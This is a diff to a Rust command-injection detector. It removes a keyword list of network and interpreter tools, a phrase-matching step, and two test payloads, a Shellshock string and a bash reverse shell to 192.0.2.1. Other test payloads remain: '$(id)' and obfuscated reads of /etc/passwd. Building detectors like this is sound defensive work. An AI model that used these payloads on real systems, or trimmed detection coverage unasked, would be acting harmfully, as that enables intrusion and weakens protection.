@@ -3,7 +3,6 @@
 mod argument;
 mod command_line;
 mod commands;
-mod phrases;
 mod word;
 
 use crate::{
@@ -52,12 +51,10 @@ impl Detector for CmdExe {
                 "$(id)",
                 "`uname -a`",
                 "a$(whoami)b",
-                "() { :;}; /bin/sh -c id",
                 ";c''at /etc/passwd",
                 "cat${IFS}/etc/passwd",
                 "{cat,/etc/passwd}",
                 "/???/c?t /e?c/p?sswd",
-                "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                 "';system('id');//",
                 "|for /f \"delims=\" %i in ('whoami') do echo %i",
                 "\n/usr/bin/id",
@@ -82,27 +79,14 @@ impl Detector for CmdExe {
     }
 
     fn literals(&self) -> &'static [&'static str] {
-        // Command lines without a separator or a path.
-        &[
-            "python -c",
-            "perl -e",
-            "php -r",
-            "ruby -r",
-            "nc -",
-            "powershell",
-            "invoke-expression",
-            "downloadstring",
-        ]
+        &[]
     }
 
     fn applies(&self, gate: &Gate) -> bool {
-        gate.bytes.has_any(SEPARATORS.and(PATHS)) || gate.has_literal()
+        gate.bytes.has_any(SEPARATORS.and(PATHS))
     }
 
     fn examine(&self, value: &Value<'_>, found: &mut Found) {
         command_line::examine(value, found);
-        if !found.is_certain() {
-            phrases::examine(value.bytes, found);
-        }
     }
 }
